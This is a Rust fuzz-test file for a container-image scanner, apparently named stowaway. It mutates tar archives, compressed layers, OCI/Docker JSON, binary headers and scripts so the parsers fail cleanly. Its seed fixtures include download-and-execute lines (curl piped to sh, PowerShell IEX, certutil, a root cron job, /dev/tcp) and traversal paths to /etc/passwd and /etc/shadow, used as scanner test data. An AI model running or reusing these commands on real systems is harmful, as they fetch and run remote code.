//! Structured fuzzing of every parser that takes attacker bytes: valid
//! fixtures are mutated the way an attacker would (tar header fields, sparse
//! maps, PAX records, GNU long names, compression framing, JSON keys and
//! values, archive members, PE/ELF/Mach-O headers, script syntax) and each
//! case must end cleanly: no panic, no hang past the limits (each case runs
//! under small limits and a watchdog), and `Ok` only when the whole image
//! was read (sizes and digests of every layer accounted for).
//!
//! CI runs a bounded number of cases per target. Maintainers soak with
//! `STOWAWAY_FUZZ_ITERS=100000 STOWAWAY_FUZZ_SEED=<n> cargo test --release
//! --features registry --test tests fuzz::` (see README); a failure prints
//! the seed and case number that reproduce it.

use std::io::Cursor;
use std::sync::atomic::AtomicU64;
use std::time::{Duration, Instant};

use serde_json::json;
use stowaway::Limits;
use stowaway::digest::Sha256;
use stowaway::fixture::{BuiltImage, ImageBuilder, LayerBuilder, compress, tar_of};
use stowaway::inspect::{self, Want};
use stowaway::layer::{Compression, ContentKind, LayerInput, scan_layer};
use stowaway::path::ImagePath;

use crate::util::*;

/// A case taking longer than this under the fuzz limits is a hang.
const WATCHDOG: Duration = Duration::from_secs(30);

/// Cases per target: `STOWAWAY_FUZZ_ITERS`, else `default`.
fn iters(default: usize) -> usize {
    std::env::var("STOWAWAY_FUZZ_ITERS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

fn seed(target: u64) -> u64 {
    let base = std::env::var("STOWAWAY_FUZZ_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(0x15a_f022);
    (base ^ target.wrapping_mul(0x9e37_79b9_7f4a_7c15)) | 1
}

/// Small limits, so that no case can run long.
fn limits() -> Limits {
    Limits {
        max_layer_bytes: 16 << 20,
        max_image_bytes: 32 << 20,
        max_entries: 20_000,
        max_image_entries: 40_000,
        max_file_buffer: 1 << 20,
        max_json_bytes: 1 << 20,
        max_path_bytes: 4096,
        parallel_layers: 1,
        ..Limits::default()
    }
}

/// xorshift64*: deterministic, so every failure reproduces from its seed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.next() % n as u64) as usize
        }
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }
    fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[self.below(v.len())]
    }
}

/// Run `case` for each of `n` cases, with a reproducer in the panic
/// message. A watchdog thread ends the test process if one case runs longer
/// than [`WATCHDOG`] (a hang cannot be caught any other way).
fn run_cases(target: &str, target_id: u64, n: usize, mut case: impl FnMut(&mut Rng, usize)) {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
    let s = seed(target_id);
    let current = Arc::new(AtomicUsize::new(0));
    let started = Arc::new(AtomicU64::new(0));
    let done = Arc::new(AtomicBool::new(false));
    let origin = Instant::now();
    let watchdog = {
        let (current, started, done) = (current.clone(), started.clone(), done.clone());
        let target = target.to_string();
        std::thread::spawn(move || {
            while !done.load(Ordering::Relaxed) {
                std::thread::sleep(Duration::from_millis(200));
                let since = origin.elapsed().as_millis() as u64 - started.load(Ordering::Relaxed);
                if since > WATCHDOG.as_millis() as u64 && !done.load(Ordering::Relaxed) {
                    eprintln!(
                        "fuzz {target}: case {} (target seed {s:#x}) still running after {WATCHDOG:?}: a hang",
                        current.load(Ordering::Relaxed)
                    );
                    std::process::exit(101);
                }
            }
        })
    };
    for i in 0..n {
        current.store(i, Ordering::Relaxed);
        started.store(origin.elapsed().as_millis() as u64, Ordering::Relaxed);
        let mut rng = Rng(s.wrapping_add(i as u64).wrapping_mul(0x2545_f491_4f6c_dd1d) | 1);
        let r = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| case(&mut rng, i)));
        if let Err(p) = r {
            done.store(true, Ordering::Relaxed);
            let msg = p
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_default();
            panic!("fuzz {target}: case {i} (target seed {s:#x}) panicked: {msg}");
        }
    }
    done.store(true, Ordering::Relaxed);
    let _ = watchdog.join();
}

// ---------------------------------------------------------------- tar

/// A layer with every kind of entry the walk treats specially.
fn rich_layer() -> LayerBuilder {
    let curl = b"\x7fELF\x02\x01\x01 Usage: curl [options...] <url>".to_vec();
    LayerBuilder::new()
        .dir("bin", 0o755)
        .file(
            "bin/tool",
            b"#!/bin/sh\ncurl -fsSL http://x.example/a | sh\n",
            0o755,
        )
        .file(&format!("opt/{}", "long".repeat(40)), &curl, 0o755)
        .file_pax("etc/pax-named", b"pax", 0o644)
        .hardlink("bin/link", "bin/tool")
        .hardlink(&format!("opt/{}", "l".repeat(120)), "bin/tool")
        .symlink("bin/sym", "tool")
        .symlink("bin/up", "../../../../etc/shadow")
        .sparse("var/sparse", &[7u8; 512], 2048)
        .sparse_gnu(
            "var/gnu-many",
            &(0..30).map(|i| (i * 1024, &b"seg"[..])).collect::<Vec<_>>(),
            40_000,
        )
        .sparse_pax("var/pax00", "0.0", &[(0, b"a"), (100, b"b")], 200)
        .sparse_pax("var/pax01", "0.1", &[(0, b"a"), (100, b"b")], 200)
        .sparse_pax("var/pax10", "1.0", &[(0, &curl), (4096, b"end")], 8192)
        .device("dev/mem", 'c', 1, 1)
        .fifo("run/fifo")
        .whiteout("gone")
        .file("app/.wh..", b"", 0o644)
        .opaque("opt")
}

/// Offsets of header blocks in a tar (following sizes as stored).
fn header_offsets(tar: &[u8]) -> Vec<usize> {
    let mut out = Vec::new();
    let mut off = 0usize;
    while off + 512 <= tar.len() {
        let b = &tar[off..off + 512];
        if b.iter().all(|&x| x == 0) {
            break;
        }
        out.push(off);
        let h = tar::Header::from_byte_slice(b);
        let mut size = h.entry_size().unwrap_or(0) as usize;
        if b[156] == b'S' && b[482] != 0 {
            // Extension blocks follow the header.
            let mut e = off + 512;
            while e + 512 <= tar.len() {
                size += 512;
                if tar[e + 504] == 0 {
                    break;
                }
                e += 512;
            }
        }
        off += 512 + size.div_ceil(512) * 512;
    }
    out
}

fn set_cksum(block: &mut [u8]) {
    block[148..156].fill(b' ');
    let sum: u32 = block[..512].iter().map(|&x| x as u32).sum();
    block[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
}

fn octal_field(rng: &mut Rng, len: usize) -> Vec<u8> {
    let v: u64 = match rng.below(6) {
        0 => 0,
        1 => rng.next() % 1024,
        2 => rng.next() % (1 << 24),
        3 => (1u64 << (3 * (len - 1))) - 1, // the largest octal value
        4 => rng.next(),
        _ => 512 * (rng.next() % 64),
    };
    let mut f = if rng.chance(15) {
        // base-256
        let mut f = vec![0u8; len];
        f[0] = 0x80;
        for (i, b) in v.to_be_bytes().iter().enumerate() {
            if len >= 8 && len - 8 + i > 0 {
                f[len - 8 + i] = *b;
            }
        }
        f
    } else {
        let s = format!("{:0w$o}", v, w = len - 1);
        let mut f = s.into_bytes();
        f.truncate(len - 1);
        f.push(0);
        f
    };
    if rng.chance(5) {
        let i = rng.below(f.len());
        f[i] = *rng.pick(b"9x \0-+");
    }
    f
}

/// One structured mutation of a tar.
fn mutate_tar(rng: &mut Rng, tar: &mut Vec<u8>) {
    let heads = header_offsets(tar);
    if heads.is_empty() || rng.chance(5) {
        let i = rng.below(tar.len().max(1));
        if i < tar.len() {
            tar[i] = rng.next() as u8;
        }
        return;
    }
    let off = *rng.pick(&heads);
    let fix_sum = rng.chance(85);
    match rng.below(12) {
        0 | 1 => {
            // size
            let f = octal_field(rng, 12);
            tar[off + 124..off + 136].copy_from_slice(&f);
        }
        2 => {
            // type flag
            tar[off + 156] = *rng.pick(b"0125LKxgSDV7\0M?");
        }
        3 => {
            // name: long, empty, dots, escapes, whiteouts
            let names: [&[u8]; 8] = [
                b"",
                b"../../etc/passwd",
                b"/abs/path",
                b".wh..wh..opq",
                b".wh.",
                b"a/././b/../c",
                b"\xff\xfe\x00x",
                b"./",
            ];
            let n = rng.pick(&names);
            tar[off..off + 100].fill(0);
            tar[off..off + n.len().min(100)].copy_from_slice(&n[..n.len().min(100)]);
        }
        4 => {
            // link name
            let f: Vec<u8> = (0..rng.below(100)).map(|_| *rng.pick(b"/.a")).collect();
            tar[off + 157..off + 257].fill(0);
            tar[off + 157..off + 157 + f.len()].copy_from_slice(&f);
        }
        5 => {
            // GNU sparse area: offsets, sizes, extended flag, real size
            let at = 386 + 24 * rng.below(4) + if rng.chance(50) { 0 } else { 12 };
            let f = octal_field(rng, 12);
            tar[off + at..off + at + 12].copy_from_slice(&f);
            if rng.chance(30) {
                tar[off + 482] = rng.next() as u8 & 1;
            }
            if rng.chance(30) {
                let f = octal_field(rng, 12);
                tar[off + 483..off + 495].copy_from_slice(&f);
            }
        }
        6 => {
            // mode, uid, gid, devices
            let at = *rng.pick(&[100usize, 108, 116, 329, 337]);
            let f = octal_field(rng, 8);
            tar[off + at..off + at + 8].copy_from_slice(&f);
        }
        7 => {
            // magic / version
            let m: &[u8] = rng.pick::<&[u8]>(&[&b"ustar\0"[..], b"ustar ", b"xxxxx\0"]);
            tar[off + 257..off + 263].copy_from_slice(m);
        }
        8 => {
            // a record in a PAX body: numbers made large, odd or negative
            if tar[off + 156] == b'x' && off + 1024 <= tar.len() {
                let body = &mut tar[off + 512..off + 1024];
                if let Some(eq) = body.iter().position(|&b| b == b'=') {
                    let v: &[u8] = rng.pick::<&[u8]>(&[
                        &b"99999999999999999999"[..],
                        b"-1",
                        b"1,2,3",
                        b"",
                        b"18446744073709551615",
                    ]);
                    for (i, b) in v.iter().enumerate() {
                        if eq + 1 + i < body.len() {
                            body[eq + 1 + i] = *b;
                        }
                    }
                }
            }
        }
        9 => {
            // duplicate a member (header and data) elsewhere
            let end = heads
                .iter()
                .find(|&&h| h > off)
                .copied()
                .unwrap_or(tar.len());
            let member = tar[off..end].to_vec();
            let at = *rng.pick(&heads);
            tar.splice(at..at, member);
        }
        10 => {
            // truncate at or near a block boundary
            let cut = (rng.below(tar.len() / 512 + 1) * 512).saturating_sub(rng.below(3));
            tar.truncate(cut.min(tar.len()));
            return;
        }
        _ => {
            // remove the trailer, or hide entries after it
            if rng.chance(50) {
                let at = heads.last().copied().unwrap_or(0);
                let extra = tar[at..].to_vec();
                tar.extend(std::iter::repeat_n(0u8, 1024));
                tar.extend(extra);
            } else {
                while tar.ends_with(&[0u8; 512]) {
                    tar.truncate(tar.len() - 512);
                }
            }
        }
    }
    if fix_sum && off + 512 <= tar.len() {
        set_cksum(&mut tar[off..off + 512]);
    }
}

/// Scan one layer blob in memory; check the property; return Ok or not.
fn check_layer(tar: &[u8], blob: &[u8]) -> bool {
    let limits = limits();
    let (bytes, entries) = (AtomicU64::new(0), AtomicU64::new(0));
    let diff = Sha256::of(tar);
    let input = LayerInput {
        index: 0,
        digest: Some(Sha256::of(blob)),
        size: Some(blob.len() as u64),
        media_type: None,
        diff_id: Some(diff),
        limits: &limits,
        image_bytes: &bytes,
        image_entries: &entries,
    };
    match scan_layer(Box::new(Cursor::new(blob.to_vec())), &input) {
        Ok(ix) => {
            // Ok means the whole layer was read and verified.
            assert_eq!(ix.diff_id, Some(diff));
            assert_eq!(ix.uncompressed_size, tar.len() as u64);
            assert_eq!(ix.blob_size, blob.len() as u64);
            true
        }
        Err(e) => {
            let m = e.to_string();
            assert!(m.contains("layer 0"), "errors name the layer: {m}");
            false
        }
    }
}

#[test]
fn fuzz_tar_walk_structured_mutations() {
    let base = rich_layer().tar_bytes();
    assert!(check_layer(&base, &base), "the seed itself scans");
    let (mut ok, mut err) = (0, 0);
    run_cases("tar", 1, iters(400), |rng, _| {
        let mut t = base.clone();
        for _ in 0..1 + rng.below(4) {
            mutate_tar(rng, &mut t);
        }
        if check_layer(&t, &t) {
            ok += 1
        } else {
            err += 1
        }
    });
    assert!(
        ok > 0 && err > 0,
        "both outcomes exercised: {ok} ok, {err} errors"
    );
}

#[test]
fn fuzz_compression_sniffing_and_framing() {
    let tar = rich_layer().tar_bytes();
    run_cases("compression", 2, iters(200), |rng, _| {
        let c = *rng.pick(&[Compression::None, Compression::Gzip, Compression::Zstd]);
        let mut blob = compress(&tar, c);
        match rng.below(6) {
            0 => {
                let i = rng.below(blob.len());
                blob[i] ^= 1 + rng.below(255) as u8;
            }
            1 => blob.truncate(rng.below(blob.len())),
            2 => {
                // a second member / frame, or junk, after the stream
                let more = compress(b"more", c);
                blob.extend(if rng.chance(50) {
                    more
                } else {
                    vec![0x1f, 0x8b, 8]
                });
            }
            3 => {
                // other magic: bzip2, xz, lz4, a gzip header on zstd data
                let magic: &[u8] = rng.pick::<&[u8]>(&[
                    &b"BZh9"[..],
                    b"\xfd7zXZ\0",
                    b"\x04\x22\x4d\x18",
                    b"\x1f\x8b\x08\0",
                ]);
                blob.splice(0..0, magic.iter().copied());
            }
            4 => {
                let i = rng.below(8.min(blob.len()));
                blob[i] = rng.next() as u8;
            }
            _ => {}
        }
        check_layer(&tar, &blob);
    });
}

// ---------------------------------------------------------------- documents

fn base_image() -> BuiltImage {
    ImageBuilder::new()
        .layer(rich_layer())
        .layer(LayerBuilder::new().file(
            "usr/bin/x",
            b"#!/bin/sh\nwget http://e.example/p\n",
            0o755,
        ))
        .config("Entrypoint", json!(["/bin/tool"]))
        .config("Healthcheck", json!({"Test": ["CMD", "/bin/sym"]}))
        .tag("v1")
        .build()
}

/// One structured mutation of a JSON document, as text.
fn mutate_json(rng: &mut Rng, doc: &[u8]) -> Vec<u8> {
    let mut v: serde_json::Value = serde_json::from_slice(doc).unwrap();
    let mut s;
    match rng.below(9) {
        0..=3 => {
            // change one value somewhere to another type or an extreme
            let mut ptr = String::new();
            {
                let mut node = &v;
                for _ in 0..rng.below(5) {
                    match node {
                        serde_json::Value::Object(m) if !m.is_empty() => {
                            let k = m.keys().nth(rng.below(m.len())).unwrap();
                            ptr.push_str(&format!("/{}", k.replace('~', "~0").replace('/', "~1")));
                            node = &m[k];
                        }
                        serde_json::Value::Array(a) if !a.is_empty() => {
                            let i = rng.below(a.len());
                            ptr.push_str(&format!("/{i}"));
                            node = &a[i];
                        }
                        _ => break,
                    }
                }
            }
            let node = v.pointer_mut(&ptr).unwrap();
            *node = rng
                .pick(&[
                    json!(null),
                    json!(-1),
                    json!(1e308),
                    json!(18446744073709551615u64),
                    json!(""),
                    json!("sha256:zz"),
                    json!([]),
                    json!({}),
                    json!([[[[[]]]]]),
                    json!("a".repeat(5000)),
                ])
                .clone();
            s = serde_json::to_vec(&v).unwrap();
        }
        4 => {
            // a key again, in another case, at the top or one level down
            s = serde_json::to_vec(&v).unwrap();
            let keys: Vec<String> = v
                .as_object()
                .map(|m| m.keys().cloned().collect())
                .unwrap_or_default();
            if let Some(k) = keys.get(rng.below(keys.len().max(1))) {
                let variant = if rng.chance(50) {
                    k.to_uppercase()
                } else {
                    k.clone()
                };
                let text = String::from_utf8(s).unwrap();
                s = text
                    .replacen('{', &format!("{{\"{variant}\":null,"), 1)
                    .into_bytes();
            }
        }
        5 => {
            // deep nesting
            let depth = 1 + rng.below(300);
            s = format!("{}1{}", "[".repeat(depth), "]".repeat(depth)).into_bytes();
        }
        6 => {
            s = serde_json::to_vec(&v).unwrap();
            s.truncate(rng.below(s.len()));
        }
        7 => {
            s = serde_json::to_vec(&v).unwrap();
            let i = rng.below(s.len());
            s[i] = *rng.pick(b"{}[]\",:\\\x00\xff");
        }
        _ => {
            // a key removed
            if let Some(m) = v.as_object_mut()
                && !m.is_empty()
            {
                let k = m.keys().nth(rng.below(m.len())).cloned().unwrap();
                m.remove(&k);
            }
            s = serde_json::to_vec(&v).unwrap();
        }
    }
    s
}

/// Property for a whole image: Ok only with every layer read and verified.
fn check_image(reference: &str, img: &BuiltImage) {
    let opts = stowaway::ScanOptions {
        limits: limits(),
        ..Default::default()
    };
    if let Ok(s) = stowaway::scan(reference, &opts) {
        assert_eq!(s.image.layers.len(), img.layers.len(), "{reference}");
        for (got, want) in s.image.layers.iter().zip(&img.layers) {
            assert_eq!(
                got.diff_id,
                Some(want.diff_id),
                "{reference}: layer {}",
                got.index
            );
            assert_eq!(got.uncompressed_size, want.tar.len() as u64);
        }
    }
}

#[test]
fn fuzz_oci_and_docker_json_documents() {
    let img = base_image();
    let t = tmp();
    run_cases("documents", 3, iters(150), |rng, i| {
        let mut m = img.clone();
        let which = rng.below(3);
        match which {
            0 => {
                let raw = mutate_json(rng, &m.config);
                m.config = raw;
                m.config_digest = Sha256::of(&m.config);
                m.edit_manifest(|_| {});
            }
            1 => {
                m.manifest = mutate_json(rng, &m.manifest);
                m.manifest_digest = Sha256::of(&m.manifest);
            }
            _ => {}
        }
        let dir = t.path().join(format!("l{i}"));
        m.write_oci_layout(&dir).unwrap();
        if which == 2 {
            let ix = std::fs::read(dir.join("index.json")).unwrap();
            std::fs::write(dir.join("index.json"), mutate_json(rng, &ix)).unwrap();
        }
        check_image(&format!("oci:{}", dir.display()), &img);
        // docker-archive: the config, and manifest.json itself.
        let f = t.path().join(format!("d{i}.tar"));
        m.write_docker_archive(&f).unwrap();
        if rng.chance(50) {
            let config_name = format!("{}.json", m.config_digest.hex());
            let layers: Vec<String> = m
                .layers
                .iter()
                .map(|l| format!("{}/layer.tar", l.diff_id.hex()))
                .collect();
            let mj = serde_json::to_vec(
                &json!([{"Config": config_name, "RepoTags": ["x:1"], "Layers": layers}]),
            )
            .unwrap();
            let mut files: Vec<(String, Vec<u8>)> = m
                .layers
                .iter()
                .zip(&layers)
                .map(|(l, n)| (n.clone(), l.tar.clone()))
                .collect();
            files.push((config_name, m.config.clone()));
            files.push(("manifest.json".into(), mutate_json(rng, &mj)));
            std::fs::write(&f, tar_of(&files)).unwrap();
        }
        check_image(&format!("docker-archive:{}", f.display()), &img);
        let _ = std::fs::remove_dir_all(&dir);
        let _ = std::fs::remove_file(&f);
    });
}

#[test]
fn fuzz_oci_and_docker_archive_readers() {
    let img = base_image();
    let t = tmp();
    let oa = t.path().join("seed-oci.tar");
    let da = t.path().join("seed-docker.tar");
    img.write_oci_archive(&oa).unwrap();
    img.write_docker_archive(&da).unwrap();
    let seeds = [
        ("oci-archive", std::fs::read(&oa).unwrap()),
        ("docker-archive", std::fs::read(&da).unwrap()),
    ];
    run_cases("archives", 4, iters(150), |rng, i| {
        let (kind, seed) = rng.pick(&seeds);
        let mut a = seed.clone();
        for _ in 0..1 + rng.below(3) {
            mutate_tar(rng, &mut a);
        }
        let f = t.path().join(format!("a{i}.tar"));
        std::fs::write(&f, &a).unwrap();
        check_image(&format!("{kind}:{}", f.display()), &img);
        let _ = std::fs::remove_file(&f);
    });
}

// ---------------------------------------------------------------- content

/// A minimal PE32+ (DOS header, PE header, one section, an import directory entry).
fn pe_seed() -> Vec<u8> {
    let mut b = vec![0u8; 1024];
    b[0..2].copy_from_slice(b"MZ");
    b[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    let pe = 0x80;
    b[pe..pe + 4].copy_from_slice(b"PE\0\0");
    let coff = pe + 4;
    b[coff..coff + 2].copy_from_slice(&0x8664u16.to_le_bytes());
    b[coff + 2..coff + 4].copy_from_slice(&1u16.to_le_bytes());
    b[coff + 16..coff + 18].copy_from_slice(&240u16.to_le_bytes());
    b[coff + 18..coff + 20].copy_from_slice(&0x22u16.to_le_bytes());
    let opt = coff + 20;
    b[opt..opt + 2].copy_from_slice(&0x20bu16.to_le_bytes());
    b[opt + 32..opt + 36].copy_from_slice(&0x1000u32.to_le_bytes()); // section alignment
    b[opt + 36..opt + 40].copy_from_slice(&0x200u32.to_le_bytes()); // file alignment
    b[opt + 56..opt + 60].copy_from_slice(&0x2000u32.to_le_bytes()); // size of image
    b[opt + 60..opt + 64].copy_from_slice(&0x200u32.to_le_bytes()); // size of headers
    b[opt + 108..opt + 112].copy_from_slice(&16u32.to_le_bytes());
    // import directory -> RVA 0x1000
    b[opt + 120..opt + 124].copy_from_slice(&0x1000u32.to_le_bytes());
    b[opt + 124..opt + 128].copy_from_slice(&40u32.to_le_bytes());
    let sec = opt + 240;
    b[sec..sec + 5].copy_from_slice(b".text");
    b[sec + 8..sec + 12].copy_from_slice(&0x1000u32.to_le_bytes());
    b[sec + 12..sec + 16].copy_from_slice(&0x1000u32.to_le_bytes());
    b[sec + 16..sec + 20].copy_from_slice(&0x200u32.to_le_bytes());
    b[sec + 20..sec + 24].copy_from_slice(&0x200u32.to_le_bytes());
    b.extend_from_slice(b"urlmon.dll\0URLDownloadToFileA\0http://x.example/a.exe\0");
    b
}

/// A minimal 64-bit Mach-O with one segment and one dylib load command.
fn macho_seed() -> Vec<u8> {
    let mut b = Vec::new();
    b.extend_from_slice(&0xfeed_facfu32.to_le_bytes());
    b.extend_from_slice(&0x0100_0007u32.to_le_bytes()); // x86_64
    b.extend_from_slice(&3u32.to_le_bytes());
    b.extend_from_slice(&2u32.to_le_bytes()); // MH_EXECUTE
    b.extend_from_slice(&2u32.to_le_bytes()); // ncmds
    b.extend_from_slice(&(72 + 56u32).to_le_bytes());
    b.extend_from_slice(&0u32.to_le_bytes());
    b.extend_from_slice(&0u32.to_le_bytes());
    // LC_SEGMENT_64
    b.extend_from_slice(&0x19u32.to_le_bytes());
    b.extend_from_slice(&72u32.to_le_bytes());
    b.extend_from_slice(b"__TEXT\0\0\0\0\0\0\0\0\0\0");
    b.extend_from_slice(&[0u8; 48]);
    // LC_LOAD_DYLIB
    b.extend_from_slice(&0xcu32.to_le_bytes());
    b.extend_from_slice(&56u32.to_le_bytes());
    b.extend_from_slice(&24u32.to_le_bytes());
    b.extend_from_slice(&[0u8; 12]);
    b.extend_from_slice(b"/usr/lib/libcurl.4.dylib\0\0\0\0\0\0\0\0");
    b.extend_from_slice(b"curl_easy_perform\0");
    b
}

fn mutate_bytes(rng: &mut Rng, b: &mut Vec<u8>) {
    if b.is_empty() {
        return;
    }
    match rng.below(5) {
        0 | 1 => {
            // a header-ish field: small offsets matter most
            let window = if rng.chance(70) { 512 } else { usize::MAX };
            let i = rng.below(b.len().min(window));
            let v = rng.next().to_le_bytes();
            let w = *rng.pick(&[1usize, 2, 4, 8]);
            for k in 0..w {
                if i + k < b.len() {
                    b[i + k] = v[k];
                }
            }
        }
        2 => b.truncate(rng.below(b.len())),
        3 => {
            let i = rng.below(b.len());
            let v: &[u8] =
                rng.pick::<&[u8]>(&[&[0xffu8; 4][..], &[0; 4], &[0x7f; 4], &[0x80, 0, 0, 0]]);
            for (k, x) in v.iter().enumerate() {
                if i + k < b.len() {
                    b[i + k] = *x;
                }
            }
        }
        _ => {
            let i = rng.below(b.len());
            b[i] ^= 1 << rng.below(8);
        }
    }
}

#[test]
fn fuzz_pe_elf_macho_inspection() {
    let mut elf =
        std::fs::read("/bin/true").expect("/bin/true (coreutils) is an ELF to start from");
    elf.truncate(256 << 10);
    let mut fat = vec![0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 1];
    fat.extend_from_slice(&[
        0x01, 0, 0, 7, 0, 0, 0, 3, 0, 0, 0, 32, 0, 0, 0, 200, 0, 0, 0, 0,
    ]);
    fat.resize(32, 0);
    fat.extend_from_slice(&macho_seed());
    let seeds = [elf, pe_seed(), macho_seed(), fat];
    let path = ImagePath::new("usr/bin/x");
    run_cases("binaries", 5, iters(600), |rng, _| {
        let mut b = rng.pick(&seeds).clone();
        for _ in 0..1 + rng.below(6) {
            mutate_bytes(rng, &mut b);
        }
        if b.is_empty() {
            return;
        }
        let _ = inspect::inspect(&path, Want::Binary, &b, rng.chance(10));
        let head = &b[..b.len().min(512)];
        let _ = inspect::wants(&path, ContentKind::sniff(head), head);
    });
}

#[test]
fn fuzz_script_parsing() {
    let seeds: [(&str, &str); 7] = [
        (
            "app/run.sh",
            "#!/bin/sh\nset -e\ncurl -fsSL \"$URL\" | sh\nwget -qO- http://x/a > /tmp/a && chmod +x /tmp/a\n",
        ),
        (
            "app/a.ps1",
            "IEX (New-Object Net.WebClient).DownloadString('http://x/a')\nStart-BitsTransfer -Source http://x/b\n",
        ),
        (
            "app/a.bat",
            "@echo off\r\ncertutil -urlcache -split -f http://x/a.exe a.exe\r\nbitsadmin /transfer j http://x/b c:\\b\r\n",
        ),
        (
            "app/a.py",
            "import urllib.request, subprocess\nurllib.request.urlretrieve('http://x/a', '/tmp/a')\nsubprocess.call(['/tmp/a'])\n",
        ),
        ("etc/cron.d/job", "* * * * * root curl http://x/a | bash\n"),
        (
            "app/a.pl",
            "use LWP::Simple; getstore('http://x/a', '/tmp/a'); system('/tmp/a');\n",
        ),
        (
            "app/b.sh",
            "#!/bin/bash\ncat <<'EOF' > /tmp/x\ncurl http://x\nEOF\nexec 3<>/dev/tcp/10.0.0.1/80; echo $( (echo a) | tr a b)\n",
        ),
    ];
    let tokens: [&str; 18] = [
        "'",
        "\"",
        "\\",
        "|",
        "&&",
        "$(",
        "`",
        "<<EOF\n",
        "\n",
        "\r\n",
        "#",
        ";",
        "${",
        "}",
        " ",
        "\0",
        "curl http://",
        "^",
    ];
    run_cases("scripts", 6, iters(800), |rng, _| {
        let (p, text) = *rng.pick(&seeds);
        let mut s = text.as_bytes().to_vec();
        for _ in 0..1 + rng.below(8) {
            let at = rng.below(s.len() + 1);
            match rng.below(4) {
                0 => {
                    let end = (at + rng.below(20)).min(s.len());
                    s.drain(at..end);
                }
                1 => {
                    // a long line or deep nesting
                    let tok = *rng.pick(&["$(", "(", "\"", "a"]);
                    let rep = tok.repeat(1 + rng.below(5000));
                    s.splice(at..at, rep.bytes());
                }
                _ => {
                    let tok = rng.pick(&tokens);
                    s.splice(at..at, tok.bytes());
                }
            }
        }
        let path = ImagePath::new(p);
        let head = &s[..s.len().min(512)];
        let want =
            inspect::wants(&path, ContentKind::sniff(head), head).unwrap_or(Want::Script("sh"));
        let _ = inspect::inspect(&path, want, &s, false);
    });
}
